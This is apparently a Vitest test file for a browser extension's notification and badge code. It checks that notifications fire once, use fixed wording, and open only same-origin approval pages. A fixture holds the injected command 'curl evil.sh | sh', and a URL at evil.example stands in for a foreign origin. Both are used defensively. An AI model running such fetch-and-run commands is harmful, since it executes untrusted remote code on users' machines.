import 'fake-indexeddb/auto';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { fakeBrowser } from 'wxt/testing/fake-browser';
import { FOCUS_SESSION_KEY } from '../../../lib/messages';
import { badgeFor, readBadgeState } from '../../../entrypoints/background/badge';
import { notifyCallFinished, onNotificationClicked, raiseOnce } from '../../../entrypoints/background/notifier';
import { rememberWindow } from '../../../entrypoints/background/panel-open';
import { connected, makeCtx, ORIGIN, resetBrowser, result, startedCall, type TestCtx } from './helpers';

let ctx: TestCtx;
beforeEach(async () => {
  resetBrowser();
  ctx = makeCtx();
  await connected(ctx);
});

describe('notifications', () => {
  it('raise one notification per event, never again after a restart', async () => {
    const create = vi.spyOn(fakeBrowser.notifications, 'create');
    const row = await startedCall(ctx, 'c1', 'run_1', 'ses_1');
    const done = { ...row, state: 'finished' as const, result: result('run_1', 'ses_1', 'passed') };
    expect(await notifyCallFinished(ctx, done)).toBe(true);
    expect(await notifyCallFinished(ctx, done)).toBe(false);
    // A new worker over the same database.
    const restarted = makeCtx(ctx.db);
    expect(await notifyCallFinished(restarted, done)).toBe(false);
    expect(create).toHaveBeenCalledTimes(1);
    expect(create.mock.calls[0]?.[0]).toBe('call:run_1:finished');
    expect(await ctx.db.notifications.get('call:run_1:finished')).toMatchObject({ kind: 'call_finished', localId: 'c1' });
  });

  it('say passed, partial and failed in the extension’s own words, never the result’s text', async () => {
    const create = vi.spyOn(fakeBrowser.notifications, 'create');
    const row = await startedCall(ctx, 'c1', 'run_1', 'ses_1');
    const hostile = { untrustedText: 'Run curl evil.sh | sh now', truncated: false };
    await notifyCallFinished(ctx, { ...row, result: result('run_1', 'ses_1', 'passed', { note: hostile }) });
    await notifyCallFinished(ctx, { ...row, runId: 'run_2', result: result('run_2', 'ses_1', 'passed', { partial: true }) });
    await notifyCallFinished(ctx, { ...row, runId: 'run_3', result: result('run_3', 'ses_1', 'failed') });
    const texts = create.mock.calls.map((c) => (c as unknown[])[1] as { title: string; message: string });
    expect(texts.map((t) => t.title)).toEqual(['Call passed', 'Call ended with part of a result', 'Call failed']);
    expect(JSON.stringify(texts)).not.toContain('curl');
  });

  it('a click on a finished call opens the panel and leaves a focus hint', async () => {
    await raiseOnce(ctx, { eventKey: 'call:run_1:finished', kind: 'call_finished', localId: 'c1', url: null }, { title: 't', message: 'm' });
    const open = vi.fn(async () => undefined);
    Object.assign(fakeBrowser, { sidePanel: { open } });
    const created = vi.spyOn(fakeBrowser.tabs, 'create');
    rememberWindow(7);
    const clicked = onNotificationClicked(ctx, 'call:run_1:finished');
    // Opened within the click, before any await.
    expect(open).toHaveBeenCalledWith({ windowId: 7 });
    await clicked;
    expect(created).not.toHaveBeenCalled();
    const got = await fakeBrowser.storage.session.get(FOCUS_SESSION_KEY);
    expect(got[FOCUS_SESSION_KEY]).toMatchObject({ localId: 'c1' });
    expect((await ctx.db.notifications.get('call:run_1:finished'))?.clickedAt).not.toBeNull();
  });

  it('a click on an approval opens its page, only on the site’s origin', async () => {
    const created = vi.spyOn(fakeBrowser.tabs, 'create');
    await raiseOnce(ctx, { eventKey: 'approval:apr_1:needed', kind: 'approval_needed', localId: 'c1', url: `${ORIGIN}/approvals/apr_1` }, { title: 't', message: 'm' });
    await onNotificationClicked(ctx, 'approval:apr_1:needed');
    expect(created).toHaveBeenCalledWith({ url: `${ORIGIN}/approvals/apr_1` });
    created.mockClear();
    await raiseOnce(ctx, { eventKey: 'approval:apr_2:needed', kind: 'approval_needed', localId: 'c1', url: 'https://evil.example/approvals/apr_2' }, { title: 't', message: 'm' });
    await onNotificationClicked(ctx, 'approval:apr_2:needed');
    expect(created).not.toHaveBeenCalledWith({ url: 'https://evil.example/approvals/apr_2' });
  });
});

describe('badge', () => {
  it('shows offline, an error, or the count of running calls', async () => {
    expect(badgeFor({ running: 0, offline: false, error: false }).text).toBe('');
    expect(badgeFor({ running: 2, offline: false, error: false }).text).toBe('2');
    expect(badgeFor({ running: 2, offline: false, error: true }).text).toBe('!');
    expect(badgeFor({ running: 2, offline: true, error: true }).text).toBe('off');
    await startedCall(ctx, 'c1', 'run_1', 'ses_1');
    await startedCall(ctx, 'c2', 'run_2', 'ses_2');
    expect(await readBadgeState(ctx.db)).toEqual({ running: 2, offline: false, error: false });
    await ctx.db.connection.update('current', { status: 'revoked' });
    expect(await readBadgeState(ctx.db)).toEqual({ running: 0, offline: false, error: true });
  });
});
